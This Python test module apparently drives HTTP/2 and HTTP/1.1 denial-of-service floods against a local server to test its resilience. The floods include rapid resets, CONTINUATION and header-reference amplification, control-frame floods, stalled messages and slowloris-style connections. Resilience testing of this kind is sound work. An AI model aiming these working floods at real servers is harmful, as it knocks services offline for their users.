"""Attacks on the front door of a server, a row for each, and the process that carries them out.

``python -m tests.faults.attacks`` takes orders (see ``workers``), attacks for as long as an order
says, hangs up, and answers what it did (``Done``). A process of its own, so that honest callers
are not measured while they wait for it.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable, Iterable, Iterator, Mapping
from contextlib import suppress
from dataclasses import asdict, dataclass
from functools import partial
from itertools import chain, repeat
from typing import NamedTuple

import uvloop

from tests import http2
from tests.faults.workers import say
from tests.raw_http import request

CREATE_ACTION = "/zitadel.management.v1.ManagementService/CreateAction"
CALL = http2.headers(CREATE_ACTION)
PADDING = [("x-padding", "x" * 3900)]
LONG_CALL = http2.headers(CREATE_ACTION, PADDING)
REFERENCES = 4000  # to one header of 3.9 kB: a block of 4 kB that says 16 MB
MESSAGE = 900_000
STREAMS = range(1, 201, 2)
CHUNK = 1 << 16  # bytes sent at once, about
LAST_STREAM = (1 << 31) - 1
HALF_BODY = request("POST", "/management/v1/actions", {"content-length": "20000"}) + b"x" * 10_000
ASKED = request("GET", "/healthz")
HTTP1, HTTP2 = "http/1.1", "h2"
AGAIN = 0.002  # seconds from the end of one connection to the next


@dataclass(frozen=True)
class Order:
    """What to do to which server.

    Attributes:
        attack: Its name in the table.
        strength: How many connections at one time, or how many new ones a second.
        token: Of a caller who may read another organization than those who are honest.
    """

    attack: str
    strength: int
    seconds: float
    port: int
    is_tls: bool
    token: str


@dataclass
class Done:
    """What an attack came to.

    Attributes:
        opened: Connections that were made.
        ended: Those of them that the server ended.
        sent: Bytes that the server took, before TLS.
    """

    opened: int = 0
    ended: int = 0
    sent: int = 0


class Peer:
    """A connection to the server that is attacked."""

    def __init__(
        self, order: Order, done: Done, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.token = order.token
        self._done = done
        self._reader = reader
        self._writer = writer

    async def send(self, data: bytes) -> None:
        """Send bytes, once the server has taken most of those before."""
        self._writer.write(data)
        await self._writer.drain()
        self._done.sent += len(data)
        await asyncio.sleep(0)

    def hang_up(self) -> None:
        """End the connection as who has nothing more to say."""
        self._writer.close()

    async def listen(self) -> None:
        """Throw away what the server says until it hangs up."""
        while await self._reader.read(CHUNK):
            pass

    async def frame(self) -> http2.Frame:
        """Return the next frame of the server."""
        head = await self._reader.readexactly(9)
        content = await self._reader.readexactly(int.from_bytes(head[:3]))
        kind, flags, stream = struct.unpack_from(">BBI", head, 3)
        return http2.Frame(kind, flags, stream, content)


Act = Callable[[Peer], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """A row of the table.

    Attributes:
        act: What one connection does, until the server ends it or the time is over.
        strengths: The least and the most: connections at one time, each followed by another when
            the server ends it; where it is ``by_rate``, new connections a second, which all stay.
        speaks: The protocol that is agreed on where the server has TLS; without one, no byte of
            TLS is said.
    """

    name: str
    act: Act
    strengths: tuple[int, int] = (1, 8)
    by_rate: bool = False
    speaks: str = HTTP2


def each(*frames: bytes) -> Iterator[bytes]:
    """Yield the same frames without end, many at a time."""
    once = b"".join(frames)
    return repeat(once * max(CHUNK // len(once), 1))


def ever_new(*frames: bytes) -> Iterator[bytes]:
    """Yield frames on one new stream after the other, those of many streams at a time."""
    once, ids = b"".join(frames), [5]
    for frame in frames[:-1]:
        ids.append(ids[-1] + len(frame))
    times = max(CHUNK // len(once), 1)
    chunk = bytearray(once * times)
    for first in range(1, LAST_STREAM - 2 * times, 2 * times):
        for number in range(times):
            for place in ids:
                struct.pack_into(">I", chunk, number * len(once) + place, first + 2 * number)
        yield bytes(chunk)


async def flood(peer: Peer, chunks: Callable[[], Iterable[bytes]], *, reads: bool = True) -> None:
    """Send as fast as the server takes it; throw away what it answers, or leave it unread."""
    await peer.send(http2.HELLO)
    listening = asyncio.create_task(peer.listen()) if reads else None
    try:
        for chunk in chunks():
            if listening is not None and listening.done():
                return
            await peer.send(chunk)
    finally:
        if listening is not None:
            listening.cancel()


async def known_resets(peer: Peer) -> None:
    """Make calls with a token, and take each back at once."""
    await flood(peer, partial(_reset, http2.headers(CREATE_ACTION, _bearer(peer))))


def _bearer(peer: Peer) -> list[tuple[str, str]]:
    return [("authorization", f"Bearer {peer.token}")]


async def once(peer: Peer, said: bytes) -> None:
    """Say one thing, and stay until the server hangs up."""
    await peer.send(said)
    await peer.listen()


async def gone(peer: Peer) -> None:
    """Hang up at once."""
    peer.hang_up()


async def half_messages(peer: Peer, *, known: bool) -> None:
    """Begin a large message on each of a hundred streams, and send as much as the server lets.

    No stream gets the last byte of its message.
    """
    call = http2.headers(CREATE_ACTION, _bearer(peer) if known else [])
    head = b"\0" + MESSAGE.to_bytes(4)
    await peer.send(http2.HELLO)
    windows = dict.fromkeys([0, *STREAMS], 65535)
    for stream in STREAMS:
        begun = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call)
        await peer.send(begun + http2.frame(http2.DATA, 0, stream, head))
        windows[0] -= len(head)
        windows[stream] -= len(head)
    left = dict.fromkeys(STREAMS, MESSAGE - 1)
    while True:
        for stream in left:
            await _pour(peer, stream, windows, left)
        found = await peer.frame()
        if found.kind == http2.WINDOW_UPDATE and found.stream in windows:
            windows[found.stream] += int.from_bytes(found.content)
        elif found.kind == http2.SETTINGS and not found.flags:
            said: Mapping[int, int] = dict(struct.iter_unpack(">HI", found.content))
            more = said.get(http2.INITIAL_WINDOW_SIZE, 65535) - 65535
            windows |= {stream: windows[stream] + more for stream in STREAMS}
        elif found.kind == http2.RST_STREAM or found.flags & http2.END_STREAM:
            left.pop(found.stream, None)


async def _pour(peer: Peer, stream: int, windows: dict[int, int], left: dict[int, int]) -> None:
    while (count := min(left[stream], windows[0], windows[stream], 16384)) > 0:
        await peer.send(http2.frame(http2.DATA, 0, stream, bytes(count)))
        windows[0] -= count
        windows[stream] -= count
        left[stream] -= count


def _continued(*, size: int) -> Iterator[bytes]:
    begun = http2.frame(http2.HEADERS, http2.END_STREAM, 1, CALL)
    more = http2.block(PADDING) * 4 if size else b""
    return chain([begun], each(http2.frame(http2.CONTINUATION, 0, 1, more)))


def _empty_data() -> Iterator[bytes]:
    begun = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, CALL)
    return chain([begun], each(http2.frame(http2.DATA, 0, 1)))


def _references() -> Iterator[bytes]:
    ended = http2.END_HEADERS | http2.END_STREAM
    kept = http2.frame(http2.HEADERS, ended, 1, CALL + http2.block(PADDING, kept=True))
    many = CALL + http2.integer(62, 7, 0x80) * REFERENCES
    later = ever_new(http2.frame(http2.HEADERS, ended, 0, many))
    next(later)  # the streams of the first chunk are not used: the first one is taken
    return chain([kept], later)


def _reset(call: bytes) -> Iterator[bytes]:
    return ever_new(
        http2.frame(http2.HEADERS, http2.END_HEADERS, 0, call),
        http2.frame(http2.RST_STREAM, 0, 0, http2.CANCEL),
    )


def _headers(flags: int) -> Iterator[bytes]:
    return ever_new(http2.frame(http2.HEADERS, flags, 0, LONG_CALL))


ONE_SETTING = struct.pack(">HI", http2.MAX_CONCURRENT_STREAMS, 100)
FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = {
    "HEADERS": partial(_headers, http2.END_HEADERS),
    "HEADERS, ended": partial(_headers, http2.END_HEADERS | http2.END_STREAM),
    "CONTINUATION": partial(_continued, size=CHUNK),
    "CONTINUATION, empty": partial(_continued, size=0),
    "header references": _references,
    "reset": partial(_reset, CALL),
    "PING": partial(each, http2.frame(http2.PING, content=bytes(8))),
    "SETTINGS": partial(each, http2.frame(http2.SETTINGS, content=ONE_SETTING)),
    "WINDOW_UPDATE": partial(each, http2.frame(http2.WINDOW_UPDATE, content=(1).to_bytes(4))),
    "PRIORITY": partial(each, http2.frame(http2.PRIORITY, 0, 1, bytes(5))),
    "empty DATA": _empty_data,
    "unknown frames": partial(each, http2.frame(0xEE)),
}
UNREAD = ("HEADERS, ended", "PING", "SETTINGS")  # floods whose answers pile up if nobody reads
RATES = (400, 800)
ATTACKS = {
    attack.name: attack
    for attack in (
        *(Attack(name, partial(flood, chunks=chunks)) for name, chunks in FLOODS.items()),
        *(
            Attack(f"{name}, not read", partial(flood, chunks=FLOODS[name], reads=False))
            for name in UNREAD
        ),
        Attack("reset, with a token", known_resets),
        Attack("half messages", partial(half_messages, known=True), (20, 20)),
        Attack("half messages, no token", partial(half_messages, known=False), (20, 20)),
        Attack("half bodies", partial(once, said=HALF_BODY), RATES, by_rate=True, speaks=HTTP1),
        Attack("idle", partial(once, said=ASKED), RATES, by_rate=True, speaks=HTTP1),
        Attack("silent", partial(once, said=http2.HELLO), RATES, by_rate=True),
        Attack("empty", partial(once, said=b""), RATES, by_rate=True, speaks=""),
        Attack("gone at once", gone, RATES, by_rate=True, speaks=""),
    )
}


class Combination(NamedTuple):
    """An attack as it is carried out."""

    attack: str
    strength: int
    is_tls: bool

    def __str__(self) -> str:
        return f"{self.attack}, {self.strength}{', TLS' if self.is_tls else ''}"


def combinations(attack: Attack) -> list[Combination]:
    """Return every way to carry out an attack, the least one first."""
    return [
        Combination(attack.name, strength, is_tls)
        for is_tls in (False, True)
        for strength in dict.fromkeys(attack.strengths)
    ]


async def carried_out(order: Order) -> Done:
    """Attack until the time is over; then hang up everything."""
    # A server that ends connections of TLS in the midst of a write is none of the loop's errors.
    asyncio.get_running_loop().set_exception_handler(lambda _loop, _said: None)
    attack, done, until = ATTACKS[order.attack], Done(), time.monotonic() + order.seconds
    tasks: set[asyncio.Task[None]] = set()
    begin = partial(_connect, order, attack, done)
    if attack.by_rate:
        await _at_a_rate(order.strength, until, begin, tasks)
    else:
        tasks |= {asyncio.create_task(_again(begin)) for _ in range(order.strength)}
        await asyncio.sleep(order.seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return done


async def _at_a_rate(
    rate: int, until: float, begin: Callable[[], Awaitable[None]], tasks: set[asyncio.Task[None]]
) -> None:
    began, made = time.monotonic(), 0
    while (now := time.monotonic()) < until:
        for _ in range(int((now - began) * rate) - made):
            made += 1
            task = asyncio.ensure_future(begin())
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        await asyncio.sleep(0.005)


async def _again(begin: Callable[[], Awaitable[None]]) -> None:
    while True:
        await begin()
        await asyncio.sleep(AGAIN)


async def _connect(order: Order, attack: Attack, done: Done) -> None:
    """Attack on one connection until its end; how it ends says how the server takes it."""
    tls = _tls(attack.speaks) if order.is_tls and attack.speaks else None
    with suppress(OSError, EOFError):
        reader, writer = await asyncio.open_connection("127.0.0.1", order.port, ssl=tls)
        done.opened += 1
        try:
            with suppress(OSError, EOFError):
                await attack.act(Peer(order, done, reader, writer))
            done.ended += attack.act is not gone
            if attack.by_rate:  # a server may wait for the other side to hang up as well
                await asyncio.Event().wait()
        finally:
            writer.transport.abort()


def _tls(speaks: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([speaks])
    return context


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(10)  # callers who mean harm are on machines of their own, not on the server's
    for line in sys.stdin:
        say(asdict(uvloop.run(carried_out(Order(**json.loads(line))))))
